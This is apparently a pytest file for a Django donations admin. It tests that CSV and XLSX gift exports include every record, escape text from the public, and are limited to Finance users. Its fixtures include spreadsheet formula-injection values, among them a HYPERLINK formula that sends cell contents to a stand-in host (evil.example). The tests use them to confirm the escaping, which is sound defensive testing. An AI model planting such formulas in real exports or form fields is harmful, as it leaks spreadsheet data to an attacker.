"""Money → Donations → Download CSV / XLSX: every gift, whatever it lacks (no
campaign, no appeal, no fee yet, never paid), text from the public escaped, and
only for Finance."""

import csv
import datetime
import io
import uuid

import openpyxl
import pytest
from django.utils import timezone

from campaigns.models import Appeal, Campaign
from donations import services
from donations.models import Donation
from tests.helpers import log_in_verified, recorded

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture
def gifts(card, supporter_factory, finance_user):
    """Gifts lacking each optional relation in turn, and one that has them all."""
    campaign = Campaign.objects.create(name="Winter appeal", code="winter", target_pence=100_000)
    appeal = Appeal.objects.create(campaign=campaign, code="WIN-EMAIL", name="Winter email", channel="email")
    online = recorded(services.donation_start(gift=services.Gift(
        amount_pence=2500, first_name="Ann", last_name="Lee", email="ann@example.org", form_token=uuid.uuid4(),
        campaign=campaign, appeal_code="WIN-EMAIL", utm_source=FORMULA, utm_medium="+SUM(1+1)",
    ), payment_method_id=card()))
    no_campaign_online = recorded(services.donation_start(gift=services.Gift(
        amount_pence=1000, first_name="Bo", last_name="Ng", email="bo@example.org", form_token=uuid.uuid4(),
        appeal_code="-2+3",  # no such appeal: kept as typed, with no campaign
    ), payment_method_id=card()))
    declined = recorded(services.donation_start(gift=services.Gift(
        amount_pence=1500, first_name="Cy", last_name="Oh", email="cy@example.org", form_token=uuid.uuid4(),
        utm_source="@SUM(1)",
    ), payment_method_id=card("4000000000000341")))
    day = timezone.localdate() - datetime.timedelta(days=1)
    offline_bare = services.donation_record_offline(
        supporter=supporter_factory(), amount_pence=5000, received_on=day, channel="offline", by=finance_user)
    offline_campaign = services.donation_record_offline(
        supporter=supporter_factory(), amount_pence=700, received_on=day, channel="event", campaign=campaign,
        by=finance_user)
    offline_appeal = services.donation_record_offline(
        supporter=supporter_factory(), amount_pence=900, received_on=day, channel="post", appeal=appeal,
        by=finance_user)
    collection = services.donation_record_offline(
        supporter=None, amount_pence=24_560, received_on=day, channel="offline", small_donation=True,
        description="=Bucket, York", by=finance_user)
    assert online.campaign and online.appeal and no_campaign_online.campaign is None
    assert declined.status == "failed" and declined.paid_at is None
    assert offline_bare.campaign is None and offline_bare.fee_pence is None
    assert collection.supporter is None
    return [online, no_campaign_online, declined, offline_bare, offline_campaign, offline_appeal, collection]


def _csv_rows(response):
    return list(csv.DictReader(io.StringIO(response.getvalue().decode("utf-8"))))


def _xlsx_rows(response):
    sheet = openpyxl.load_workbook(io.BytesIO(response.getvalue())).active
    header, *rows = list(sheet.iter_rows())
    names = [cell.value for cell in header]
    return [dict(zip(names, row)) for row in rows]


def test_the_csv_holds_every_gift_whatever_it_lacks(finance_client, gifts):
    response = finance_client.get("/admin/donation/", {"export": "csv"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = _csv_rows(response)
    assert sorted(row["Reference"] for row in rows) == sorted(g.reference for g in gifts)
    by_reference = {row["Reference"]: row for row in rows}
    assert by_reference[gifts[3].reference]["Campaign"] == "" and by_reference[gifts[3].reference]["Fee pence"] == ""
    assert by_reference[gifts[0].reference]["Campaign"] == "winter"
    assert by_reference[gifts[0].reference]["Amount pence"] == "2500"
    assert by_reference[gifts[2].reference]["Paid at"] == ""
    assert all(row["Fundraising page"] == "" for row in rows)
    collection = by_reference[gifts[6].reference]
    assert (collection["Supporter"], collection["Collection"]) == ("", "'=Bucket, York")


def test_the_xlsx_holds_every_gift_whatever_it_lacks(finance_client, gifts):
    response = finance_client.get("/admin/donation/", {"export": "xlsx"})
    assert response.status_code == 200
    rows = _xlsx_rows(response)
    assert sorted(row["Reference"].value for row in rows) == sorted(g.reference for g in gifts)
    first = next(row for row in rows if row["Reference"].value == gifts[0].reference)
    assert first["Amount pence"].value == 2500 and first["Amount pence"].data_type == "n", "money stays a number"
    assert isinstance(first["Created at"].value, datetime.datetime)


def test_text_from_the_public_is_escaped_in_both_formats(finance_client, gifts):
    rows = {row["Reference"]: row for row in _csv_rows(finance_client.get("/admin/donation/", {"export": "csv"}))}
    assert rows[gifts[0].reference]["UTM source"] == "'" + FORMULA
    assert rows[gifts[0].reference]["UTM medium"] == "'+SUM(1+1)"
    assert rows[gifts[1].reference]["Appeal code"] == "'-2+3"
    assert rows[gifts[2].reference]["UTM source"] == "'@SUM(1)"
    cells = {row["Reference"].value: row for row in _xlsx_rows(finance_client.get("/admin/donation/", {"export": "xlsx"}))}
    cell = cells[gifts[0].reference]["UTM source"]
    assert (cell.value, cell.data_type) == ("'" + FORMULA, "s")
    assert cells[gifts[1].reference]["Appeal code"].value == "'-2+3"


def test_only_finance_downloads_gifts(client, fundraiser, finance_user, admin_user, gifts):
    for user, allowed in ((fundraiser, False), (finance_user, True), (admin_user, True)):
        log_in_verified(client, user)
        listing = client.get("/admin/donation/").content.decode()
        assert ("Download CSV" in listing) is allowed and ("Download XLSX" in listing) is allowed
        for export in ("csv", "xlsx"):
            response = client.get("/admin/donation/", {"export": export})
            if allowed:
                assert response.status_code == 200
            else:
                assert (response.status_code, response.url) == (302, "/admin/")
    client.logout()
    response = client.get("/admin/donation/", {"export": "csv"})
    assert response.status_code == 302 and "/admin/login/" in response.url
    assert Donation.objects.count() == len(gifts)
